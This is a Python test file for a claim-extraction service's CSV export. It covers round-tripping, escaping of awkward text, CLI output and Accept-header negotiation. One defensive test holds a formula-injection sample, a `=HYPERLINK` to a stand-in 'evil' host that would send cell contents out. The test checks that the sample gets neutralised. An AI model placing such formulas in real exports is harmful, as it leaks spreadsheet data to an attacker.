"""Tests of ``service/exports/csv_rows.py``: claims as CSV that Python's csv module reads back whole."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from schemas import ExtractionResult
from service.api.app import create_app
from service.cli.main import app as cli
from service.exports.csv_rows import COLUMNS, claims_csv
from service.settings import Settings
from tests.conftest import DATA_DIR

ROOT = Path(__file__).parents[2]
SAMPLE = json.loads((ROOT / "examples" / "sample-request.json").read_text(encoding="utf-8"))


def test_the_sample_s_csv_round_trips_through_python_s_csv_module(tmp_path: Path) -> None:
    """`Accept: text/csv`: a header, one row a claim; read back, every cell equals the JSON reply's."""
    with TestClient(create_app(Settings(cache_dir=tmp_path / "c", data_dir=tmp_path / "d"))) as client:
        as_json = client.post("/v1/extractions", json=SAMPLE).json()
        as_csv = client.post("/v1/extractions", json=SAMPLE, headers={"Accept": "text/csv"})
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert tuple(rows[0]) == COLUMNS
    assert [row["claim_id"] for row in rows] == [claim["id"] for claim in as_json["claims"]]
    for row, claim in zip(rows, as_json["claims"], strict=True):
        assert (row["text"], row["quote"], row["claimant"]) == (
            claim["text"], claim["source"]["quote"], claim["claimant"] or "",
        )  # fmt: skip
        assert (int(row["start"]), int(row["end"])) == (claim["source"]["start"], claim["source"]["end"])
        assert row["prompt"] == "extract_claims@1"


def test_commas_quotes_and_newlines_survive() -> None:
    """A claim whose text holds a comma, a double quote and a line break comes back exactly."""
    tricky = 'He said "no, never",\nthen: 3% — «maybe»'
    claim = {
        "id": "clm_1", "text": tricky, "type": "quantity", "claimant": 'O"Neil, J.', "attribution": "quoted",
        "checkworthiness": 0.5, "source": {"quote": tricky, "start": 0, "end": 31, "sentence_ids": [1]},
        "chunk": 1, "model_alias": "default", "model": "offline/rules",
    }  # fmt: skip
    prompt = {"name": "extract_claims", "version": 1, "sha256": "x"}
    provenance = {"requested_model": "default", "models": [], "fallback_used": False, "prompt": prompt}
    result = ExtractionResult.model_validate({
        "article_id": "a,1", "status": "complete", "usage": {}, "claims": [claim],
        "provenance": provenance | {"service_version": "0"},
    })  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(claims_csv([result]))))
    assert (row["article_id"], row["text"], row["quote"], row["claimant"]) == ("a,1", tricky, tricky, 'O"Neil, J.')


def test_claims_extract_writes_csv(tmp_path: Path) -> None:
    """`claims extract --format csv` prints the same rows."""
    started = time.monotonic()
    printed = CliRunner().invoke(cli, ["extract", str(DATA_DIR / "article-trump-musk-x-stream.txt"), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(printed.output)))
    assert printed.exit_code == 0
    assert len(rows) == 27
    assert any("15.2%" in row["text"] for row in rows)
    assert time.monotonic() - started < 60


def test_a_cell_a_spreadsheet_would_run_is_made_inert() -> None:
    """A quote starting "-40%" or "=HYPERLINK(" gets a leading ' (spreadsheets hide it and keep the text)."""
    from service.exports.csv_rows import inert

    assert inert("-40% in May") == "'-40% in May"
    assert inert('=HYPERLINK("https://evil/?"&A2)') == '\'=HYPERLINK("https://evil/?"&A2)'
    assert inert("@handle said") == "'@handle said"
    assert inert("Rents rose 7%") == "Rents rose 7%"


def test_accept_is_read_with_its_quality_values(tmp_path: Path) -> None:
    """`text/csv;q=0` refuses CSV; the highest q wins; every answer varies on Accept and says its status."""
    settings = Settings(cache_dir=tmp_path / "c", data_dir=tmp_path / "d")
    body = {"article": {"text": "Prices rose 3% in June, the ONS said."}}
    with TestClient(create_app(settings)) as client:
        refused = client.post("/v1/extractions", json=body, headers={"Accept": "application/json, text/csv;q=0"})
        ranked = client.post("/v1/extractions", json=body, headers={"Accept": "application/ld+json;q=0.1, text/csv"})
        anything = client.post("/v1/extractions", json=body, headers={"Accept": "*/*"})
    assert refused.headers["content-type"] == "application/json"
    assert ranked.headers["content-type"].startswith("text/csv")
    assert ranked.headers["extraction-status"] == "complete"
    assert anything.headers["content-type"] == "application/json"
    assert {r.headers["vary"] for r in (refused, ranked, anything)} == {"Accept"}
